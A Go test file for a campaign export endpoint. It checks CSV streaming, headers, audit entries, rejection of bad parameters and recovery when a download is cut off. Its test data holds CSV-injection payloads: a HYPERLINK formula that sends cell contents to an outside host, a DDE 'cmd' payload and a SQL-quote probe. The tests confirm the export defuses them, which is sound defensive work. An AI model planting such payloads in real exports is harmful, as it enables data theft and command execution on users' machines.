package dashboard

import (
	"encoding/csv"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"

	"github.com/callhenk/henk-worker/internal/storetest"
)

func TestExportsAreStreamedAndDefused(t *testing.T) {
	t.Parallel()
	b := setup(t)
	w := storetest.NewWorld(t, b.db, nil)
	formula := `=HYPERLINK("https://elsewhere.test/?"&A1)`
	lead := storetest.NewLead(t, b.db, w, storetest.Fields{"first_name": formula, "last_name": "@SUM(1)", "phone": "+13125550142"})
	b.talk(w, lead, storetest.Fields{"notes": "-2+3+cmd|' /C calc'!A0"}, "Hello")
	page := "/campaigns/" + w.Campaign.String() + "/export"
	for what, contains := range map[string][]string{"leads": {"'" + formula, "'@SUM(1)", "+13125550142"}, "conversations": {"'" + formula, "'-2+3+cmd|' /C calc'!A0"}, "calls": nil} {
		rec := b.do("GET", page+"?what="+what, nil)
		require.Equal(t, http.StatusOK, rec.Code)
		require.Equal(t, "text/csv; charset=utf-8", rec.Header().Get("Content-Type"))
		require.Equal(t, `attachment; filename="`+what+"-"+w.Campaign.String()+`.csv"`, rec.Header().Get("Content-Disposition"))
		rows, err := csv.NewReader(rec.Body).ReadAll()
		require.NoError(t, err)
		for _, text := range contains {
			require.Contains(t, rows[1], text, what)
		}
	}
	rec := b.do("GET", page+"?what=leads&format=jsonl", nil)
	var row map[string]any
	require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &row))
	require.Equal(t, formula, row["first_name"], "for programs it is as it is")
	require.Equal(t, int64(4), value[int64](b, "select count(*) from henk.audit where action = 'campaign.exported' and campaign_id = $1 and actor = 'olga'", w.Campaign))
	require.Contains(t, text(b.get("/campaigns/"+w.Campaign.String())), "olga took out a file")

	for _, bad := range []string{"", "?what=everything", "?what=leads&format=xlsx", "?what=leads'--"} {
		require.Equal(t, http.StatusBadRequest, b.do("GET", page+bad, nil).Code, bad)
	}
	rec = b.do("GET", "/campaigns/"+uuid.NewString()+"/export?what=leads", nil)
	require.Equal(t, http.StatusNotFound, rec.Code)
	require.Empty(t, rec.Header().Get("Content-Disposition"))
	require.Empty(t, b.do("HEAD", page+"?what=leads", nil).Body.String())
	require.Equal(t, int64(4), value[int64](b, "select count(*) from henk.audit"), "nothing was taken out")
	for range exportsAtOnce {
		b.exports <- struct{}{}
	}
	require.Equal(t, http.StatusServiceUnavailable, b.do("GET", page+"?what=leads", nil).Code)
}

// full is a reader who goes away in the middle.
type full struct {
	*httptest.ResponseRecorder
	room int
}

func (f *full) Write(p []byte) (int, error) {
	if f.room -= len(p); f.room < 0 {
		return 0, errors.New("connection reset")
	}
	return f.ResponseRecorder.Write(p)
}

func TestHalfAnExportIsNotTakenForAWhole(t *testing.T) {
	t.Parallel()
	b := setup(t)
	w := storetest.NewWorld(t, b.db, nil)
	b.exec("insert into leads (business_id, first_name, email, notes) select $1, 'Ada', n || '@example.org', repeat('x', 1000) from generate_series(1, 300) n", w.Business)
	b.exec("insert into campaign_leads (campaign_id, lead_id, notes) select $1, id, notes from leads", w.Campaign)
	r := httptest.NewRequestWithContext(t.Context(), "GET", "/campaigns/"+w.Campaign.String()+"/export?what=leads", nil)
	require.PanicsWithValue(t, http.ErrAbortHandler, func() {
		b.mux.ServeHTTP(&full{httptest.NewRecorder(), 100_000}, r)
	})
	require.Empty(t, b.exports, "its place is free again")
	rec := b.do("GET", "/campaigns/"+w.Campaign.String()+"/export?what=leads", nil)
	require.Equal(t, 301, strings.Count(rec.Body.String(), "\n"))
}
